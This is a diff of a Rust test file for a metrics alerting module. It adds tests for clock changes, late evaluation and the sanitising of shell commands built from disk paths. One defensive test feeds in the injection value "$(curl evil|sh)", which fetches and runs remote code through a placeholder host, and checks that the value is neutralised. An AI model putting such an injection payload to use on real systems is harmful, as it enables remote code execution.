@@ -11,6 +11,11 @@ use crate::metrics::name::{
 /// A whole minute.
 const T0: i64 = 1_767_571_200;
 
+/// The moment, and the time of day.
+fn both(now_ns: i64) -> (i64, i64) {
+    (now_ns, now_ns)
+}
+
 fn rule(name: &str, metric: &'static Metric, statistic: &str, period_s: u32, datapoints: (u32, u32)) -> Rule {
     Rule {
         name: name.to_owned(),
@@ -112,7 +117,7 @@ fn periods_of_ten_seconds_are_looked_at_every_ten_seconds() {
                 time_ms: now_ns / 1_000_000 - 30_000,
                 values: Values::Sum(sum),
             };
-            thresholds.take_lines(&[point], 60, now_ns);
+            thresholds.take_lines(&[point], 60, (now_ns, now_ns));
         }
         turns.extend(thresholds.due(now_ns).into_iter().map(|turn| (second, turn)));
     }
@@ -131,11 +136,41 @@ fn lines_of_a_backlog_say_nothing_of_now() {
         time_ms: (T0 + 5 - ago_s) * 1000,
         values: Values::Sum(99.0),
     };
-    thresholds.take_lines(&[point(3600)], 60, (T0 + 5) * SECOND);
-    thresholds.take_lines(&[point(200)], 60, (T0 + 5) * SECOND);
+    thresholds.take_lines(&[point(3600)], 60, both((T0 + 5) * SECOND));
+    thresholds.take_lines(&[point(200)], 60, both((T0 + 5) * SECOND));
     assert_eq!(thresholds.due((T0 + 10) * SECOND), []);
-    thresholds.take_lines(&[point(290)], 300, (T0 + 15) * SECOND);
+    thresholds.take_lines(&[point(290)], 300, both((T0 + 15) * SECOND));
     assert_eq!(thresholds.due((T0 + 20) * SECOND).len(), 1);
+}
+
+#[test]
+fn lines_of_now_count_after_the_clock_was_set_back() {
+    let burst = Rule { threshold: 1.0, ..rule("failures", &RESPONSES_5XX, "Sum", 10, (1, 1)) };
+    let mut thresholds = thresholds(vec![burst], &[]);
+    let wall_s = T0 - 3600;
+    let point =
+        Datapoint { metric: &RESPONSES_5XX, of: None, time_ms: wall_s * 1000, values: Values::Sum(99.0) };
+    thresholds.take_lines(&[point], 60, ((T0 + 5) * SECOND, wall_s * SECOND));
+    assert_eq!(thresholds.due((T0 + 10) * SECOND).len(), 1);
+}
+
+#[test]
+fn who_comes_late_has_not_missed_a_minute() {
+    let mut late = thresholds(vec![disk()], &[]);
+    for second in (5..115).step_by(10) {
+        late.take(&[reading(&DISK_USED_PERCENT, Some("/data"), 97.0)], (T0 + second) * SECOND);
+    }
+    assert_eq!(late.due((T0 + 135) * SECOND).len(), 1, "the minute was over fifteen seconds ago");
+    assert_eq!(late.due((T0 + 145) * SECOND), []);
+}
+
+#[test]
+fn what_a_stranger_wrote_is_no_command() {
+    let crossed = |of: &str| disk().crossed(Some(of.to_owned()), "N", Some(1.0), String::new());
+    assert_eq!(crossed("/var/lib/docker-2 a").run, ["df -h /var/lib/docker-2 a"]);
+    let hostile = crossed("$(curl evil|sh)`x`';\n\"");
+    assert_eq!(hostile.run, ["df -h ??curl evil?sh??x?????"]);
+    assert!(hostile.says.contains("$(curl evil|sh)"), "{}", hostile.says);
 }
 
 #[test]
@@ -150,7 +185,7 @@ fn percentiles_of_what_lines_said_can_be_looked_at() {
         time_ms: T0 * 1000,
         values: Values::Distribution(times),
     };
-    thresholds.take_lines(&[point], 60, (T0 + 5) * SECOND);
+    thresholds.take_lines(&[point], 60, both((T0 + 5) * SECOND));
     assert_eq!(thresholds.due((T0 + 10) * SECOND).len(), 1);
 }
 
